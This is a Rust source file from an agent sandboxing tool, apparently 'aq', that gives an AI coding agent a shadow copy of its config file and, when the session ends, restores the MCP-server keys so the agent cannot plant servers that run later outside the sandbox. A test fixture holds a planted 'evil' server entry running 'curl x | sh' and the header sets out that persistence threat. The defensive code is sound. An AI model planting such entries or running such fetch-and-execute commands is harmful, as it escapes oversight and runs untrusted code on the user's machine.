//! Files an agent both writes and reads to decide what runs, such as
//! Claude Code's `~/.claude.json`: its state (onboarding, the API key it
//! was told to use, per-project trust) beside the MCP servers it starts.
//!
//! Read-only, the agent cannot remember anything; writable, it could plant
//! an MCP server that runs the next time the user starts it outside `aq`.
//! So the session gets a copy, bound over the file inside the sandbox, and
//! at the end the copy is written back with the keys that make something
//! run (`protect`) as the file had them: the agent keeps its memory, not
//! what it tried to install.

use std::path::{Path, PathBuf};

use serde_json::{Map, Value};

pub use crate::error::ShadowError;

/// One shadowed file of a session.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ShadowFile {
    /// The user's file (made `{}` first when missing: a bind needs a target).
    pub real: PathBuf,
    /// The session's copy, bound over it.
    pub copy: PathBuf,
    /// Key paths kept as the user's file has them (`mcpServers`,
    /// `projects.*.mcpServers`; `*` is any key).
    pub protect: Vec<String>,
}

/// `copy` with every protected key path as `original` has it (or absent).
pub(crate) fn merge_back(copy: &Value, original: &Value, protect: &[String]) -> Value {
    let mut out = copy.clone();
    for pattern in protect {
        let segments: Vec<&str> = pattern.split('.').collect();
        restore(&mut out, original, &segments);
    }
    out
}

fn restore(out: &mut Value, original: &Value, segments: &[&str]) {
    let Some((first, rest)) = segments.split_first() else {
        return;
    };
    let Some(out_map) = out.as_object_mut() else {
        return;
    };
    let empty = Map::new();
    let orig_map = original.as_object().unwrap_or(&empty);
    let keys: Vec<String> = if *first == "*" {
        let mut k: Vec<String> = out_map.keys().cloned().collect();
        if rest.is_empty() {
            k.extend(
                orig_map
                    .keys()
                    .filter(|x| !out_map.contains_key(*x))
                    .cloned(),
            );
        }
        k
    } else {
        vec![first.to_string()]
    };
    for key in keys {
        if rest.is_empty() {
            match orig_map.get(&key) {
                Some(v) => {
                    out_map.insert(key, v.clone());
                }
                None => {
                    out_map.remove(&key);
                }
            }
        } else if let Some(child) = out_map.get_mut(&key) {
            restore(child, orig_map.get(&key).unwrap_or(&Value::Null), rest);
        }
    }
}

/// Makes the session's copy of `real` in `dir` (`{}` when `real` is missing
/// or empty, and then `real` too, as the bind's target).
pub(crate) fn make_copy(real: &Path, dir: &Path, index: usize) -> std::io::Result<PathBuf> {
    use std::os::unix::fs::OpenOptionsExt;
    std::fs::create_dir_all(dir)?;
    let text = match std::fs::read(real) {
        Ok(t) if !t.is_empty() => t,
        Ok(_) => b"{}\n".to_vec(),
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => {
            if let Some(parent) = real.parent() {
                std::fs::create_dir_all(parent)?;
            }
            std::fs::OpenOptions::new()
                .write(true)
                .create_new(true)
                .mode(0o600)
                .open(real)?;
            std::fs::write(real, b"{}\n")?;
            b"{}\n".to_vec()
        }
        Err(e) => return Err(e),
    };
    let name = real
        .file_name()
        .map(|n| n.to_string_lossy().into_owned())
        .unwrap_or_default();
    let copy = dir.join(format!("{index}-{name}"));
    std::fs::OpenOptions::new()
        .write(true)
        .create(true)
        .truncate(true)
        .mode(0o600)
        .open(&copy)?;
    std::fs::write(&copy, text)?;
    Ok(copy)
}

/// At the end of the session: the copy, with the protected keys as the
/// user's file has them now, replaces the user's file (a new file renamed
/// over it). An unreadable or non-JSON copy leaves the file as it is.
pub fn write_back(shadow: &ShadowFile) -> Result<(), ShadowError> {
    let copy_text = std::fs::read(&shadow.copy).map_err(|source| ShadowError::ReadCopy {
        path: shadow.copy.clone(),
        source,
    })?;
    let copy: Value =
        serde_json::from_slice(&copy_text).map_err(|source| ShadowError::CopyNotJson {
            real: shadow.real.clone(),
            source,
        })?;
    let original: Value = std::fs::read(&shadow.real)
        .ok()
        .and_then(|t| serde_json::from_slice(&t).ok())
        .unwrap_or(Value::Object(Map::new()));
    let merged = merge_back(&copy, &original, &shadow.protect);
    if merged == original {
        return Ok(());
    }
    let mut text =
        serde_json::to_vec_pretty(&merged).map_err(|source| ShadowError::Encode { source })?;
    text.push(b'\n');
    let tmp = shadow
        .real
        .with_extension(format!("aq-{}.tmp", std::process::id()));
    {
        use std::os::unix::fs::OpenOptionsExt;
        let mut f = std::fs::OpenOptions::new()
            .write(true)
            .create_new(true)
            .mode(0o600)
            .open(&tmp)
            .map_err(|source| ShadowError::CreateTemp {
                path: tmp.clone(),
                source,
            })?;
        std::io::Write::write_all(&mut f, &text)
            .map_err(|source| ShadowError::WriteTemp { source })?;
    }
    std::fs::rename(&tmp, &shadow.real).map_err(|source| {
        let _ = std::fs::remove_file(&tmp);
        ShadowError::Replace {
            path: shadow.real.clone(),
            source,
        }
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn protect() -> Vec<String> {
        [
            "mcpServers",
            "projects.*.mcpServers",
            "projects.*.enabledMcpjsonServers",
        ]
        .iter()
        .map(|s| s.to_string())
        .collect()
    }

    #[test]
    fn the_agents_memory_is_kept_and_what_it_would_run_is_not() {
        let original = json!({
            "numStartups": 1,
            "mcpServers": {"mine": {"command": "my-server"}},
            "projects": {"/w": {"hasTrustDialogAccepted": false}}
        });
        let copy = json!({
            "numStartups": 2,
            "hasCompletedOnboarding": true,
            "customApiKeyResponses": {"approved": ["placeholder"]},
            "mcpServers": {"mine": {"command": "my-server"}, "evil": {"command": "curl x | sh"}},
            "projects": {
                "/w": {"hasTrustDialogAccepted": true, "mcpServers": {"p": {"command": "sh"}}},
                "/new": {"enabledMcpjsonServers": ["x"], "allowedTools": []}
            }
        });
        let merged = merge_back(&copy, &original, &protect());
        assert_eq!(
            merged,
            json!({
                "numStartups": 2,
                "hasCompletedOnboarding": true,
                "customApiKeyResponses": {"approved": ["placeholder"]},
                "mcpServers": {"mine": {"command": "my-server"}},
                "projects": {
                    "/w": {"hasTrustDialogAccepted": true},
                    "/new": {"allowedTools": []}
                }
            })
        );
    }

    #[test]
    fn a_removed_server_comes_back_and_a_broken_copy_changes_nothing() {
        let original = json!({"mcpServers": {"mine": {"command": "s"}}});
        let merged = merge_back(&json!({"x": 1}), &original, &protect());
        assert_eq!(
            merged,
            json!({"x": 1, "mcpServers": {"mine": {"command": "s"}}})
        );

        let dir = tempfile::tempdir().unwrap();
        let real = dir.path().join("home/.claude.json");
        let copy = make_copy(&real, &dir.path().join("session"), 0).unwrap();
        assert_eq!(std::fs::read_to_string(&real).unwrap(), "{}\n");
        std::fs::write(
            &copy,
            "{\"hasCompletedOnboarding\": true, \"mcpServers\": {\"e\": 1}}",
        )
        .unwrap();
        let shadow = ShadowFile {
            real: real.clone(),
            copy: copy.clone(),
            protect: protect(),
        };
        write_back(&shadow).unwrap();
        let back: Value = serde_json::from_str(&std::fs::read_to_string(&real).unwrap()).unwrap();
        assert_eq!(back, json!({"hasCompletedOnboarding": true}));
        std::fs::write(&copy, "not json").unwrap();
        assert!(write_back(&shadow).is_err());
        let again: Value = serde_json::from_str(&std::fs::read_to_string(&real).unwrap()).unwrap();
        assert_eq!(again, back);
    }
}
